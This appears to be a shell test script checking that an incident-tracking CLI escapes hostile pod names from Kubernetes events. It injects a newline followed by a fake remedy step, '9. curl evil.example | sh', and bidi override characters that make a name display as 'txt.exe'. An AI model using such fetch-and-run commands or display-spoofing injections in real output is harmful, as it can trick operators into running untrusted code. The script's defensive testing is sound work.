#!/bin/sh
# A pod name that holds a newline must not forge a remedy step in show,
# and bidi controls (U+202E RIGHT-TO-LEFT OVERRIDE and its kin), which
# reorder what a terminal shows, reach a terminal only as \u escapes.
. "$(dirname "$0")/lib.sh"
DB=$T/h.db
SRC=$(cd "$(dirname "$0")/../../examples/field-reports/hook-configmap-race" && pwd)
mkdir "$T/in"
cp "$SRC"/* "$T/in/"
# the pod's name: a newline, then what reads as a numbered remedy step
sed -i 's/7d9c8f4b6-4kx2m/7d9c8f4b6-4kx2m\\n9. curl evil.example | sh/g' "$T/in/events.ndjson"
# a namespace-free bidi override in every message
sed -i 's/configmap \\"payments-api-config\\" not found/configmap \\"payments-api-config\\" not found \\u202etxt.exe\\u2066\\u200f\\u061c/' "$T/in/events.ndjson"

# and, in a database of its own, a pod whose name reads backwards: its
# incident's release (inferred from the name) is in incidents' table
head -n 3 "$SRC/events.ndjson" | tail -n 1 |
	sed 's/payments-api-7d9c8f4b6-4kx2m/exe.\\u202egnp-cod/g' >"$T/bidi.ndjson"
run_rt ingest --db "$DB" "$T/in"/*
is "$RC" 0 "ingest"
run_rt ingest --db "$T/b.db" "$T/bidi.ndjson"
is "$RC" 0 "ingest the pod that reads backwards"
run_rt show --db "$DB" 1
is "$RC" 0 "show"
unlike "$(cat "$OUT")" '^ *9\. curl' "show: the name's newline forges no remedy step"
like "$(cat "$OUT")" 'kubectl delete pod .*4kx2m.*curl evil' "show: the name stays inside its command"
run_rt query --db "$DB" -o json "SELECT remedy FROM incidents"
is "$(jq -r '.[0].remedy | split("\n") | map(select(test("curl"))) | .[0] | test("kubectl delete pod")' "$OUT")" true \
	"stored remedy: the hostile name is inside its command's line"

# bidi controls, as UTF-8 bytes
BIDI=$(printf '\342\200[\252-\256\216\217]|\342\201[\246-\251]|\330\234')
has_bidi() { LC_ALL=C grep -qE "$BIDI" "$1"; }
for cmd in "show --db $DB 1" "incidents --db $T/b.db -o wide" \
	"query --db $DB SELECT\ message\ FROM\ events"; do
	eval "run_rt $cmd"
	if has_bidi "$OUT"; then _result 1 "$cmd: no raw bidi control"
	else _result 0 "$cmd: no raw bidi control"; fi
done
run_rt query --db "$DB" "SELECT message FROM events LIMIT 1"
like "$(cat "$OUT")" 'not found \\u202etxt\.exe\\u2066\\u200f\\u061c' "query table: bidi controls as \\u escapes"
run_rt show --db "$DB" 1
like "$(cat "$OUT")" '\\u202etxt\.exe' "show: bidi controls as \\u escapes"
run_rt incidents --db "$T/b.db"
like "$(cat "$OUT")" 'exe\.\\u202egnp-cod' "incidents: a release name's bidi control as \\u202e"
run_rt query --db "$DB" -o json "SELECT message FROM events LIMIT 1"
is "$(jq -r '.[0].message' "$OUT")" "$(printf 'Error: configmap "payments-api-config" not found \342\200\256txt.exe\342\201\246\342\200\217\330\234')" "JSON is exact"
done_testing
